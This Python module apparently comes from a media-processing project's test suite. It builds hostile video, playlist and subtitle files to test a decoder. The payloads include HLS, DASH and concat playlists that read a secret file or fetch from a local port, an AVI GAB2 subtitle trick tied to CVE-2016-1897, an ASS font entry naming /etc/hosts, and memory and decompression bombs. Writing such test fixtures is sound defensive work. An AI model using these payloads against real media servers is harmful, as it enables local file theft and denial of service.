"""Files that try to make a decoder open other files, call home, or use up the machine."""

import random
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path

from tests.factories.clips import CLIPS, clip, ffmpeg
from tests.factories.mp4_boxes import HOSTILE, TABLE, MovieBuilder, box, numbers

SECRET, OTHER = "secret.txt", "other.mp4"
Attack = Callable[[Path, int], bytes]  # takes the directory with SECRET and OTHER, and a port


def _dash(base: str) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"'
        f' codecs="avc1.64000d" width="320" height="180"><BaseURL>{base}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>"
    ).encode()


def _hls(address: str) -> bytes:
    head = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n"
    return f"{head}#EXTINF:2.0,\n{address}\n#EXT-X-ENDLIST\n".encode()


def _concat(name: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{name}'\n".encode()


def _gab2(playlist: bytes) -> bytes:
    """An AVI whose subtitle stream holds a playlist (CVE-2016-1897 and its successors)."""
    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"s\0\4\0" + struct.pack("<I", len(playlist))
    chunk = b"01tx" + struct.pack("<I", len(gab2 + playlist)) + gab2 + playlist
    movi = b"LIST" + struct.pack("<I", 4 + len(chunk)) + b"movi" + chunk
    strh = b"txts" + bytes(44) + struct.pack("<II", 0, 0)
    strl = b"strh" + struct.pack("<I", len(strh)) + strh + b"strf" + struct.pack("<I", 0)
    hdrl = b"hdrlavih" + struct.pack("<I", 56) + bytes(56)
    hdrl += b"LIST" + struct.pack("<I", 4 + len(strl)) + b"strl" + strl
    body = b"AVI LIST" + struct.pack("<I", len(hdrl)) + hdrl + movi
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _reference(address: str) -> bytes:
    """A QuickTime reference movie: a header with the address of the real one."""
    data = numbers(0) + b"url " + numbers(len(address) + 1) + address.encode() + b"\0"
    moov = box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", data))))
    return box(b"ftyp", b"qt  ", numbers(512)) + moov


ATTACKS: Mapping[str, Attack] = {
    "dash_file": lambda here, _: _dash((here / OTHER).as_uri()),
    "dash_secret": lambda here, _: _dash((here / SECRET).as_uri()),
    "dash_http": lambda _, port: _dash(f"http://127.0.0.1:{port}/"),
    "hls_file": lambda here, _: _hls((here / OTHER).as_uri()),
    "hls_absolute": lambda here, _: _hls(str(here / SECRET)),
    "hls_relative": lambda _, __: _hls(OTHER),
    "hls_http": lambda _, port: _hls(f"http://127.0.0.1:{port}/x.ts"),
    "hls_concat": lambda here, port: _hls(f"concat:http://127.0.0.1:{port}/|{here / SECRET}"),
    "hls_subfile": lambda here, _: _hls(f"subfile,,start,0,end,9,,:{here / SECRET}"),
    "hls_crypto": lambda here, _: _hls(f"crypto+{(here / SECRET).as_uri()}"),
    "concat_relative": lambda _, __: _concat(OTHER),
    "concat_absolute": lambda here, _: _concat(str(here / SECRET)),
    "concat_http": lambda _, port: _concat(f"http://127.0.0.1:{port}/x.mp4"),
    "sdp": lambda _, port: (
        b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        b"m=video %d RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n" % port
    ),
    "avi_gab2": lambda here, _: _gab2(_hls((here / SECRET).as_uri())),
    "svg_href": lambda here, _: (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        b'<image x:href="%s"/></svg>' % (here / SECRET).as_uri().encode()
    ),
    "ass_font": lambda _, __: b"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: /etc/hosts\n",
    "dref_file": lambda here, _: MovieBuilder(
        dref_flags=0, dref_location=(here / OTHER).as_uri().encode() + b"\0"
    ).bytes(),
    "dref_http": lambda _, port: MovieBuilder(
        dref_flags=0, dref_location=b"http://127.0.0.1:%d/\0" % port
    ).bytes(),
    "reference_file": lambda here, _: _reference((here / OTHER).as_uri()),
    "reference_http": lambda _, port: _reference(f"http://127.0.0.1:{port}/x.mov"),
    "image_pattern": lambda here, _: f"{here}/%d.png\n".encode(),
}


def _rendered(path: Path, *arguments: str) -> bytes:
    ffmpeg("-f", "lavfi", "-i", *arguments, "-f", "mp4", str(path))
    return path.read_bytes()


def _huge_frames(scratch: Path) -> bytes:
    fast = ("-c:v", "libx264", "-preset", "ultrafast", "-frames:v", "1")
    return _rendered(scratch, "color=gray:s=8000x8000:r=1:d=1", *fast)


def _a_day_apart(scratch: Path) -> bytes:
    later = ("-vf", "setpts=if(N\\,86400/TB\\,0)", "-fps_mode", "vfr", "-c:v", "libx264")
    return _rendered(scratch, "testsrc2=s=320x180:r=24", "-frames:v", "2", *later)


def _ten_hours(_: Path) -> bytes:
    """A real clip each frame of which lasts 750 s."""
    data = bytearray(clip("no_audio").read_bytes())
    at = data.find(b"stts") + 16
    data[at : at + 4] = numbers(int.from_bytes(data[at : at + 4]) * 18_000)
    return bytes(data)


def _many_samples(_: Path) -> bytes:
    """A real clip whose tables claim 64 Mi samples of one byte, all in its first chunk."""
    data, many = bytearray(clip("no_audio").read_bytes()), 64 << 20
    for kind, at, values in (
        (b"stsz", 8, (1, many)),
        (b"stts", 12, (many,)),
        (b"stsc", 16, (many,)),
    ):
        begin = data.find(kind) + at
        data[begin : begin + 4 * len(values)] = numbers(*values)
    return bytes(data)


_MANY = 64 << 20


def _within(data: bytes | bytearray, path: tuple[bytes, ...]) -> list[int]:
    """Return the offset of each box on this path."""
    begins, at, end = [], 0, len(data)
    for kind in path:
        while data[at + 4 : at + 8] != kind:
            at += int.from_bytes(data[at : at + 4])
            assert at < end, kind
        begins.append(at)
        at, end = at + 8, at + int.from_bytes(data[at : at + 4])
    return begins


def inserted(path: tuple[bytes, ...], extra: bytes, *, offsets: bool = True) -> bytes:
    """Return a real clip with a box appended to the one at this path, or inserted before moov."""
    data = bytearray(clip("no_audio").read_bytes())
    begins = _within(data, path or (b"moov",))
    at = begins[-1] + (int.from_bytes(data[begins[-1] :][:4]) if path else 0)
    for begin in begins if path else ():
        data[begin : begin + 4] = numbers(int.from_bytes(data[begin : begin + 4]) + len(extra))
    table = data.find(b"stco") + 8
    for entry in range(int.from_bytes(data[table : table + 4]) if offsets else 0):
        offset = slice(table + 4 + 4 * entry, table + 8 + 4 * entry)
        data[offset] = numbers(int.from_bytes(data[offset]) + len(extra))
    data[at:at] = extra
    return bytes(data)


def _appended(extra: bytes) -> bytes:
    return clip("no_audio").read_bytes() + extra


def _big_track() -> bytes:
    """The track of `many_samples`, which takes no more bytes than a good one."""
    data = _many_samples(Path())
    (_, at) = _within(data, (b"moov", b"trak"))
    return data[at : at + int.from_bytes(data[at : at + 4])]


def _packed(moov: bytes) -> bytes:
    """A movie header compressed with zlib (QuickTime File Format, Compressed Movie Resources)."""
    packed = numbers(len(moov)) + zlib.compress(moov)
    return box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", packed))


def _fragment(kind: bytes = b"moof") -> bytes:
    run = box(b"trun", numbers(0, _MANY))
    head = box(b"tfhd", numbers(0x20008, 1, 1))
    return box(kind, box(b"mfhd", numbers(0, 1)), box(b"traf", head, run))


def _described(extra: bytes) -> bytes:
    """A clip whose first sample description ends with this box."""
    data = inserted(TABLE, extra)
    (*path, stsd) = _within(data, (*TABLE, b"stsd"))
    end = path[-1] + int.from_bytes(data[path[-1] :][:4])
    size = int.from_bytes(data[stsd : stsd + 4])
    entry = int.from_bytes(data[stsd + 16 : stsd + 20])
    moved = bytearray(data[stsd : stsd + size] + extra)
    moved[:4], moved[16:20] = numbers(size + len(extra)), numbers(entry + len(extra))
    return data[:stsd] + moved + data[stsd + size : end - len(extra)] + data[end:]


def _eight_tracks() -> bytes:
    """A movie whose tracks each have as many samples as all of them may have together."""
    many, clock = 1 << 20, 1 << 20
    movie = MovieBuilder(
        same_size=1, count=many, timescale=clock, times=((many, 1),), media=bytes(many)
    )
    return replace(movie, more_tracks=7).bytes()


def _list(kind: bytes, *values: int) -> bytes:
    return box(kind, numbers(0, *values))


def _in_user_data(*content: bytes) -> bytes:
    return inserted((b"moov",), box(b"udta", *content))


_HANDLER = box(b"hdlr", bytes(8), b"mdirappl", bytes(9))
# Files whose regular boxes are valid, with another that a demuxer would use all the same: the last
# of two, one in the wrong place, or a count without entries.
MISPLACED: Mapping[str, Callable[[], bytes]] = {
    "sizes_twice": lambda: inserted(TABLE, _list(b"stsz", 1, _MANY)),
    "times_twice": lambda: inserted(TABLE, _list(b"stts", 1, 1, 86400 * 12288)),
    "chunks_twice": lambda: inserted(TABLE, _list(b"stsc", 1, 1, _MANY, 1)),
    "shifts_twice": lambda: inserted(TABLE, _list(b"ctts", 1, _MANY, 5) * 2),
    "offsets_twice": lambda: inserted(TABLE, box(b"co64", numbers(0, 1, 0, 100))),
    "keyframes_twice": lambda: inserted(TABLE, _list(b"stss", 1, 1) * 2),
    "description_twice": lambda: inserted(TABLE, _list(b"stsd", 1) + box(b"jpeg", bytes(78))),
    "table_twice": lambda: inserted(TABLE[:4], box(b"stbl", _list(b"stsz", 1, _MANY))),
    "media_twice": lambda: inserted(TABLE[:2], box(b"mdia")),
    "clock_twice": lambda: inserted(TABLE[:3], box(b"mdhd", numbers(0, 0, 0, 1, 1 << 24, 0))),
    "handler_twice": lambda: inserted(TABLE[:3], _HANDLER),
    "edits_twice": lambda: inserted(TABLE[:2], box(b"edts", _list(b"elst", 1, 0, 0, 1 << 16)) * 2),
    "edit_lists_in_one": lambda: inserted(TABLE[:2], box(b"edts", _list(b"elst", 0) * 2)),
    "movie_clock_twice": lambda: inserted(TABLE[:1], box(b"mvhd", bytes(100))),
    "track_in_front": lambda: inserted((), _big_track()),
    "track_behind": lambda: _appended(_big_track()),
    "track_in_user_data": lambda: _in_user_data(_big_track()),
    "track_in_nested_user_data": lambda: _in_user_data(box(b"udta", _big_track())),
    "track_in_meta": lambda: _in_user_data(box(b"meta", bytes(4), _HANDLER, _big_track())),
    "track_in_quicktime_meta": lambda: _in_user_data(box(b"meta", _HANDLER, _big_track())),
    "track_in_late_meta": lambda: _in_user_data(
        box(b"meta", bytes(4), box(b"free", bytes(4)), _HANDLER, _big_track())
    ),
    "track_in_items": lambda: _in_user_data(
        box(b"meta", bytes(4), _HANDLER, box(b"ilst", _big_track()))
    ),
    "track_in_reference": lambda: inserted(TABLE[:2], box(b"tref", _big_track())),
    "track_in_description": lambda: _described(_big_track()),
    "sizes_in_description": lambda: _described(_list(b"stsz", 1, _MANY)),
    "header_in_hoov": lambda: _appended(box(b"hoov", box(b"mvhd", bytes(100)), _big_track())),
    "packed_in_front": lambda: inserted((), _packed(box(b"moov", _big_track()))),
    "packed_behind": lambda: _appended(_packed(box(b"moov", _big_track()))),
    "packed_in_user_data": lambda: _in_user_data(_packed(box(b"moov", _big_track()))),
    "packed_bomb": lambda: _in_user_data(_packed(box(b"moov", bytes(120 << 20)))),
    "reference_in_user_data": lambda: _in_user_data(box(b"rmra", box(b"rmda"))),
    "fragment_in_header": lambda: inserted((b"moov",), _fragment()),
    "fragment_in_user_data": lambda: _in_user_data(_fragment()),
    "fragment_without_its_box": lambda: _appended(_fragment(b"udta")),
    "run_behind": lambda: _appended(box(b"trun", numbers(0, _MANY))),
    "compact_sizes": lambda: inserted(TABLE, _list(b"stz2", 4, _MANY)),
    "partial_keyframes": lambda: inserted(TABLE, _list(b"stps", 0x0FFFFFFF)),
    "groups": lambda: inserted(TABLE, box(b"sbgp", numbers(0), b"rap ", numbers(0x0FFFFFFF))),
    "group_kinds": lambda: inserted(
        TABLE, box(b"sgpd", numbers(1 << 24), b"roll", numbers(2, 0x0FFFFFFF))
    ),
    "keys": lambda: _in_user_data(box(b"meta", bytes(4), _HANDLER, _list(b"keys", 0x0FFFFFFF))),
    "items_of_stills": lambda: _in_user_data(
        box(b"meta", bytes(4), _HANDLER, box(b"iinf", numbers(1 << 24, 0x0FFFFFFF)))
    ),
    "samples_of_all_tracks": _eight_tracks,
    "fragments_of_two_tracks": lambda: MovieBuilder(
        mvex=box(b"mvex", box(b"trex", numbers(0, 1, 1, 40, 10, 0))),
        more_tracks=1,
        after=box(b"moof", box(b"mfhd", numbers(0, 1))),
    ).bytes(),
    "protection": lambda: inserted(
        (b"moov",), box(b"pssh", numbers(1 << 24), bytes(16), numbers(0x0FFFFFFF))
    ),
    "protected_sizes": lambda: inserted(
        TABLE, box(b"saiz", numbers(0), b"\0", numbers(0x0FFFFFFF))
    ),
}


def _falsified(kind: bytes, at: int, *values: int) -> Callable[[], bytes]:
    """A real clip with other numbers in its table of this type, `at` numbers after its flags."""

    def make() -> bytes:
        data = bytearray(clip("no_audio").read_bytes())
        begin = data.index(kind) + 8 + 4 * at
        data[begin : begin + 4 * len(values)] = numbers(*values)
        return bytes(data)

    return make


def _spread(moov_last: bool) -> bytes:
    """A clip of several chunks: each packet of its audio has one."""
    return clip("moov_last" if moov_last else "high").read_bytes()


def _chunks_halved() -> bytes:
    data = bytearray(_spread(moov_last=False))
    at = data.index(b"stco") + 8
    data[at : at + 4] = numbers(int.from_bytes(data[at : at + 4]) // 2)
    return bytes(data)


def _last_chunk(to: int) -> bytes:
    """A clip whose last chunk of the first track starts `to` bytes before the end of the media."""
    data = bytearray(_spread(moov_last=True))
    table, end = data.index(b"stco") + 8, data.index(b"moov") - 4
    last = table + 4 * int.from_bytes(data[table : table + 4])
    data[last : last + 4] = numbers(end - to)
    return bytes(data)


# Tables that are valid alone, but disagree: less is played than the headers state.
INCOMPLETE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "chunks_halved": (_chunks_halved, "disagree"),
    "no_chunks": (_falsified(b"stco", 0, 0), "no chunks"),
    "last_chunk_at_the_end": (lambda: _last_chunk(10), "outside its media data"),
    "last_chunk_behind": (lambda: _last_chunk(0), "outside its media data"),
    "chunk_in_front": (_falsified(b"stco", 1, 8), "outside its media data"),
    "late_first_chunk": (_falsified(b"stsc", 1, 5), "out of order"),
    "empty_chunks": (_falsified(b"stsc", 2, 0), "out of order"),
    "fuller_chunks": (_falsified(b"stsc", 2, 999), "disagree"),
    "no_such_description": (_falsified(b"stsc", 3, 2), "description"),
    "shifts_cut": (_falsified(b"ctts", 0, 1), "disagree"),
    "keyframe_beyond": (_falsified(b"stss", 1, 9999), "keyframes"),
    "keyframe_zero": (_falsified(b"stss", 1, 0), "keyframes"),
}


def _zeroed(begins: float, ends: float = 1.0) -> bytes:
    """A clip with zeros between these fractions of its length."""
    data = bytearray(clip("no_audio").read_bytes())
    hole = slice(int(len(data) * begins), int(len(data) * ends))
    data[hole] = bytes(len(data[hole]))
    return bytes(data)


def _one_length_wrong() -> bytes:
    """A clip whose last packet begins with a length that is 1 too great."""
    data = bytearray(clip("no_audio").read_bytes())
    table = data.index(b"stsz") + 12
    at = len(data) - int.from_bytes(data[table + 4 * int.from_bytes(data[table : table + 4]) :][:4])
    data[at : at + 4] = numbers(int.from_bytes(data[at : at + 4]) + 1)
    return bytes(data)


# Clips with valid headers and broken media data.
TORN: Mapping[str, Callable[[], bytes]] = {
    "zero_tail": lambda: _zeroed(0.6),
    "zero_end": lambda: _zeroed(0.98),
    "hole": lambda: _zeroed(0.5, 0.6),
    "length": _one_length_wrong,
}


def _cut(_: Path) -> bytes:
    data = clip("high").read_bytes()
    return data[: len(data) * 3 // 4]


# Files that exhaust memory, time or disk of a decoder that trusts them; each takes a scratch file.
BOMBS: Mapping[str, Callable[[Path], bytes]] = {
    "huge_frames": _huge_frames,
    "a_day_apart": _a_day_apart,
    "ten_hours": _ten_hours,
    "cut": _cut,
    "many_samples": _many_samples,
    "samples_64Mi": lambda _: HOSTILE["samples_64Mi"][0](),
    "fragment_samples": lambda _: HOSTILE["fragment_samples"][0](),
    "many_boxes": lambda _: HOSTILE["many_boxes"][0](),
}


def mutated(seed: int) -> bytes:
    """Return a clip with some bytes changed, in its header or media data; it may be cut short."""
    chance = random.Random(seed)
    names = [name for name in ("high", "hevc", "fragmented", "vp9", "main") if name in CLIPS]
    data = bytearray(clip(chance.choice(names)).read_bytes())
    moov = data.find(b"moov")
    for _ in range(chance.choice((1, 3, 10, 50))):
        near = chance.random() < 0.3
        at = moov + chance.randrange(2500) if near else chance.randrange(len(data))
        if at < len(data):
            data[at] = chance.choice((0, 0xFF, 0x7F, chance.randrange(256)))
    if chance.random() < 0.1:
        del data[chance.randrange(len(data)) :]
    return bytes(data)
